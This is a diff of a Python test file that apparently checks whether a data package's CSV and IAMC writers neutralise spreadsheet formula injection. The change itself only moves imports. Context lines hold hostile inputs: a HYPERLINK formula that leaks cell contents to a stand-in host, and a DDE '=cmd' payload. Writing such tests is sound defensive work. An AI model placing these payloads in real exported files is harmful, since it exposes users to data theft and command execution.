@@ -21,8 +21,8 @@ from article6.app.panels.table4 import ID as T4
 from browser_support import require_browser
 
 from article6 import errors as E
-from article6 import spreadsheet
 from article6.errors import OptionError
+from article6.io import spreadsheet
 
 HOSTILE = Path(__file__).parent / "hostile_inputs"
 TITLES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
@@ -206,7 +206,7 @@ def test_csv_writer_neutralises_every_formula_start():
 
 
 def test_iamc_writers_are_formula_safe(tmp_path):
-    from article6 import iamc
+    from article6.io import iamc
 
     model = "=cmd|' /C calc'!A0"
     df = pd.DataFrame({"model": [model], "scenario": ["s"], "region": ["KOR"],
